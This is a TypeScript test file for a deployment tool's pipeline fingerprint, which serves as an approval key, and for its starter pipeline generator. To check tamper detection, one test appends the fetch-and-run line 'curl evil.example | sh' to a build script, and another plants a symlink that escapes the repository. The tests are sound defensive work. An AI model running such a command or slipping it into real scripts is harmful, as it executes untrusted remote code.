import assert from 'node:assert/strict';
import { appendFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import {
  loadPipeline,
  pipelineFingerprint,
  referencedScripts,
  starterPipeline,
  stackSafeName,
  validatePipelineText,
} from '../../../../src/core/pipeline';
import { makeFixtureRepo } from './fixtureRepo';

describe('pipeline fingerprint (approval key)', () => {
  let repo: ReturnType<typeof makeFixtureRepo>;
  before(() => {
    repo = makeFixtureRepo();
  });
  after(() => repo.dispose());

  async function fingerprint() {
    const loaded = await loadPipeline(repo.root);
    return pipelineFingerprint(repo.root, loaded.file, loaded.config);
  }

  it('covers the pipeline file and the scripts its steps run, inside the repository only', async () => {
    symlinkSync(repo.outside, join(repo.root, 'scripts', 'escape.sh'));
    const steps = [
      { name: 'a', run: './scripts/package.sh --fast && bash scripts/escape.sh', env: {} },
      { name: 'b', run: 'node index.js; echo ${HOME}/x.sh; ls /etc/hostname', env: {}, cwd: 'app' },
    ];
    assert.deepEqual(referencedScripts(repo.root, { steps }), ['app/index.js', 'scripts/package.sh']);
    const fp = await fingerprint();
    assert.deepEqual(
      fp.files.map((f) => f.path),
      ['deployguard.yaml', 'scripts/package.sh'],
    );
    assert.match(fp.files[1]!.text!, /echo packaging/);
  });

  it('changes when the file or a script it runs changes, not when another file does', async () => {
    const first = await fingerprint();
    assert.equal((await fingerprint()).hash, first.hash);
    appendFileSync(join(repo.root, 'app', 'index.js'), '// unrelated\n');
    assert.equal((await fingerprint()).hash, first.hash);
    appendFileSync(join(repo.root, 'scripts', 'package.sh'), 'curl evil.example | sh\n');
    const second = await fingerprint();
    assert.notEqual(second.hash, first.hash);
    appendFileSync(join(repo.root, 'deployguard.yaml'), '# edited\n');
    assert.notEqual((await fingerprint()).hash, second.hash);
  });
});

describe('starter pipeline file', () => {
  it('is valid as written, with the name made stack-safe', () => {
    const text = starterPipeline({ name: 'My_Service 2', template: 'infra/template.yaml' });
    const result = validatePipelineText(text, { file: '/r/deployguard.yaml' });
    assert.deepEqual(result.problems, []);
    assert.equal(result.config!.name, 'my-service-2');
    assert.equal(result.config!.stack.name, 'my-service-2-${env.name}');
    assert.deepEqual(Object.keys(result.config!.environments), ['dev']);
  });

  it('makes any folder name a valid stack name', () => {
    assert.equal(stackSafeName('42-things'), 'app-42-things');
    assert.equal(stackSafeName('___'), 'app');
    assert.equal(stackSafeName('Orders.Service'), 'orders-service');
  });
});
